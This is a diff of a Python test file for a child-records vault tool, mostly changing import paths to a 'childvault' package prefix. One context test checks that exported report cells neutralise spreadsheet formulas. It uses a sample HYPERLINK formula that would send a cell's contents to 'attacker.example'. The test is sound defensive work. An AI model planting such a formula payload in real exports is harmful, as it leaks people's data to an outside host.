@@ -14,11 +14,11 @@ from typing import Any
 import pytest
 from click.testing import CliRunner
 
-from cli.main import cli
-from keys import AccessDenied, DecryptionFailed, LocalProvider, UsageError
+from childvault.cli.main import cli
+from childvault.keys import AccessDenied, DecryptionFailed, LocalProvider, UsageError
+from childvault.vault import NewRecordInput, Vault
+from childvault.vault._reports import age_band, neutralise_cell
 from tests.conftest import PASSPHRASES, World, child_values, consent
-from vault import NewRecordInput, Vault
-from vault._reports import age_band, neutralise_cell
 
 QUASI_COLUMNS = [
     "record_type",
@@ -107,7 +107,7 @@ def test_export_excludes_expired_records_and_outdated_notices(world: World, tmp_
     # An older notice "2025-9" was in force when two records were consented.
     from importlib import resources
 
-    template = resources.files("vault").joinpath("data/notice-template.md").read_bytes()
+    template = resources.files("childvault.vault").joinpath("data/notice-template.md").read_bytes()
     with world.open("admin") as v:
         v.publish_notice("2025-9", "旧版告知书 / old notice\n".encode())
     with world.open("worker1") as v:
@@ -209,7 +209,7 @@ def test_formula_in_a_generalised_value_is_neutralised_end_to_end(
 ) -> None:
     """District names cannot start with '=' today; if a rule ever let one
     through, the written cell must still be inert."""
-    import vault._reports as reports
+    import childvault.vault._reports as reports
 
     evil = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
     monkeypatch.setattr(reports, "district_of", lambda _address: evil)
